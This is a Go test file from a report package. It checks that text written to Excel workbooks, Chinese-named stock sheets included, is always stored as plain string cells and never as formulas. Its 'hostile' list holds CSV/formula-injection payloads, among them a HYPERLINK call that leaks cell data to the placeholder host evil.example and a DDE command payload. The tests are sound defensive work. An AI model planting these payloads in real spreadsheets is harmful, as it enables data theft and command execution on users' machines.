package report

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostile are texts a spreadsheet would run if they were formulas.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(A1:A2)",
	"\t=1",
	"=cmd|' /C calc'!A0",
}

// TestTextIsNeverAFormula: text written to a workbook, whatever it starts
// with, is a string cell, shown as written; excelize writes a formula only
// through SetCellFormula, which the report code never calls. So workbooks
// need no apostrophes, unlike CSV (package csvcell).
func TestTextIsNeverAFormula(t *testing.T) {
	b, err := newBook("公式测试", 0)
	if err != nil {
		t.Fatal(err)
	}
	s := b.sheet("", "测试")
	s.head(hostile...)
	row := make([]any, len(hostile))
	for i, h := range hostile {
		row[i] = h
	}
	s.add(row...)
	f, err := b.close()
	if err != nil {
		t.Fatal(err)
	}
	raw, back := roundTrip(t, f)
	for r := 1; r <= 2; r++ {
		for c, want := range hostile {
			cell, _ := excelize.CoordinatesToCellName(c+1, r)
			if formula, err := back.GetCellFormula("测试", cell); err != nil || formula != "" {
				t.Errorf("%s has the formula %q (%v)", cell, formula, err)
			}
			typ, err := back.GetCellType("测试", cell)
			if err != nil || (typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString) {
				t.Errorf("%s is of type %v, want a string (%v)", cell, typ, err)
			}
			text(t, back, "测试", cell, want)
		}
	}
	noFormulas(t, raw)
}

// The stock workbook, with names that look like formulas, has none.
func TestStockNamesAreText(t *testing.T) {
	sb := sampleStock()
	sb.Depots[0].NameZH = hostile[0]
	sb.Lots[0].DepotZH = hostile[0]
	sb.Items[0].Item.Spec = "=1+1"
	sb.Movements[0].Reason = "@SUM(A1:A2)"
	f, err := Stock(sb)
	if err != nil {
		t.Fatal(err)
	}
	raw, back := roundTrip(t, f)
	text(t, back, "储备库", "B2", hostile[0])
	noFormulas(t, raw)
}

// noFormulas checks that no sheet of an .xlsx file holds a formula (an
// <f> element).
func noFormulas(t *testing.T, xlsx []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(data, []byte("<f>")) || bytes.Contains(data, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}
